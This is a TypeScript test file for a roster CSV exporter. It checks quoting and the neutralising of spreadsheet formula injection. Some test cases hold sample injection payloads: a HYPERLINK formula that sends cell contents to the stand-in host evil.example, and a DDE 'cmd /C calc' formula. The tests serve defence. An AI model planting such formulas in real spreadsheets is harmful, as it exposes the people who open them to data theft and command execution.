import { read as readSpreadsheet } from '@e965/xlsx'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { rosterCsv, toCsv } from '../../server/domain/csv.ts'
import type { RosterRow } from '../../shared/schemas/roster.ts'
import { readCsv } from './read-csv.ts'

const HEADER = ['email', 'name', 'vote', 'questions']
const FORMULA_SIGNS = [...'=+-@\t\r＝＋－＠']
/** White space as it stands before a formula, and as it is written. */
const SPACES = [
  ...[' ', '   ', '\u00a0', '\u3000', '\ufeff'].map((space) => [space, `'${space}`] as const),
  ...['\n', '\r\n'].map((space) => [space, `'${space}'`] as const),
  [' \t ', "' \t' "],
] as const

/** Text with much of what CSV and spreadsheets trip over. */
const texts = fc.string({
  unit: fc.oneof(
    fc.constantFrom(...'",\'\r\n\t =+-@＝＋－＠|;aé'),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 12,
})
const rosters = fc.array(fc.record({ email: texts, name: texts, vote: texts, questions: texts }), { maxLength: 5 })

const rowWith = (name: string): RosterRow => ({ email: '', name, vote: '', questions: '' })
const withoutApostrophes = (cell = '') => cell.replaceAll("'", '')
/** The name in the one row of a roster as it is read back from CSV. */
const nameReadBack = (name: string) => readCsv(rosterCsv([rowWith(name)], {}))[1]?.[1]

describe('the CSV export of a roster', () => {
  it('begins with a header row, and has one row per participant', () => {
    const roster = [{ email: 'zoe@example.org', name: 'Zoe', vote: 'Day?: Monday', questions: '' }]
    expect(rosterCsv(roster, {})).toBe('email,name,vote,questions\r\nzoe@example.org,Zoe,Day?: Monday,\r\n')
    expect(rosterCsv([], {})).toBe('email,name,vote,questions\r\n')
  })

  it.each([
    'a"b',
    'a,b',
    'a;b',
    'a\tb',
    'a\rb',
    'a\nb',
    ' a',
    'a ',
    ' ',
    '"',
    ',',
    ';',
    '\n',
    'a;b"c',
  ])('has %j in quotes, with every separator', (name) => {
    const cell = `"${name.replaceAll('"', '""')}"`
    expect(rosterCsv([rowWith(name)], {})).toBe(`email,name,vote,questions\r\n,${cell},,\r\n`)
    expect(toCsv([['a', name, 'b']], { separator: 'semicolon' })).toBe(`a;${cell};b\r\n`)
  })

  it.each(['', 'a', 'a b', 'Zoë 🎉', "a'b", '\u00a0a', 'a:b|c', '“a”'])('has %j without quotes', (name) => {
    expect(toCsv([['a', name, 'b']], {})).toBe(`a,${name},b\r\n`)
    expect(toCsv([['a', name, 'b']], { separator: 'semicolon' })).toBe(`a;${name};b\r\n`)
  })

  it('is read back unchanged, except for the apostrophes before formulas', () => {
    fc.assert(
      fc.property(rosters, (roster) => {
        const [header, ...records] = readCsv(rosterCsv(roster, {}))
        expect(header).toEqual(HEADER)
        expect(records).toHaveLength(roster.length)
        for (const [place, { email, name, vote, questions }] of roster.entries()) {
          const cells = [email, name, vote, questions]
          const read = records[place] ?? []
          expect(read).toHaveLength(4)
          for (const [column, cell] of cells.entries()) {
            expect(withoutApostrophes(read[column])).toBe(withoutApostrophes(cell))
          }
        }
      }),
      { numRuns: 500 },
    )
  })

  it.each([
    'a\nb',
    'a\rb',
    'a\r\nb',
    'a"b',
    '"',
    'a,b',
    '"a","b"',
    'Zoë 🎉',
    ' padded ',
    "'quoted'",
  ])('keeps %j as it is', (name) => {
    expect(nameReadBack(name)).toBe(name)
  })

  it.each(FORMULA_SIGNS)('makes text of a cell that begins with %j', (sign) => {
    expect(nameReadBack(`${sign}1+1`)).toBe(`'${sign}1+1`)
    expect(nameReadBack(sign)).toBe(`'${sign}`)
  })

  it.each(FORMULA_SIGNS)('makes text of a cell that begins with spaces and %j', (sign) => {
    for (const [space, written] of SPACES) {
      expect(nameReadBack(`${space}${sign}1`)).toBe(`${written}${sign}1`)
    }
  })

  it('makes text of a formula in every column', () => {
    const bomb = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    const row = { email: bomb, name: bomb, vote: bomb, questions: bomb }
    const [, cells] = readCsv(rosterCsv([row], {}))
    expect(cells).toEqual(Array.from({ length: 4 }, () => `'${bomb}`))
  })

  it('never lets a cell begin like a formula', () => {
    fc.assert(
      fc.property(rosters, (roster) => {
        for (const cell of readCsv(rosterCsv(roster, {})).flat()) {
          expect(cell.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/u)
          expect(cell).not.toMatch(/^[\t\r]/)
        }
      }),
    )
  })

  it('never lets a part of a cell begin like a formula, whichever sign a spreadsheet splits at', () => {
    fc.assert(
      fc.property(rosters, (roster) => {
        for (const part of rosterCsv(roster, {}).split(/[;,\t\r\n]/))
          expect(part.replace(/^[\s"]+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/u)
      }),
      { numRuns: 500 },
    )
  })

  it.each([
    ["x;=1+cmd|' /C calc'!A0;y", "x;'=1+cmd|' /C calc'!A0;y"],
    ['x\t=1+1\ty', "x\t'=1+1\ty"],
    ['x, -1', "x,' -1"],
    ['x\r\n@SUM(1)', "x\r\n'@SUM(1)"],
    ['x;"=1+1', `x;'"=1+1`],
    ['x\n\n=1', "x\n\n'=1"],
  ])('makes text of the formula in %j', (name, text) => {
    expect(nameReadBack(name)).toBe(text)
  })

  it.each([',', ';', '\t'])('holds no formula for a spreadsheet that splits at %j', (FS) => {
    const bombs = ['=1+1', 'x;=1+1;y', 'x\t=1+1\ty', 'x,=1+1,y', '";=1+1;"', 'x\n=1+1']
    const formulas = (csv: string) =>
      Object.values(readSpreadsheet(csv, { type: 'string', FS, cellFormula: true }).Sheets)
        .flatMap((sheet) => Object.values(sheet))
        .filter(({ f }) => f !== undefined)
    expect(formulas(`name${FS}vote\r\nx${FS}=1+1\r\n`)).toHaveLength(1)
    expect(formulas(rosterCsv(bombs.map(rowWith), {}))).toEqual([])
  })

  it('does not change a cell with such a sign further on', () => {
    for (const name of ['a=b', '1-2', 'zoe@example.org', "'=1", '(+1)', '“=1”', 'a; b=c']) {
      expect(nameReadBack(name)).toBe(name)
    }
  })

  it('for Excel differs only by a byte-order mark at its start', () => {
    fc.assert(
      fc.property(rosters, (roster) => {
        expect(rosterCsv(roster, { excel: '1' })).toBe(`\uFEFF${rosterCsv(roster, {})}`)
        expect(rosterCsv(roster, {}).startsWith('email,')).toBe(true)
      }),
    )
  })
})
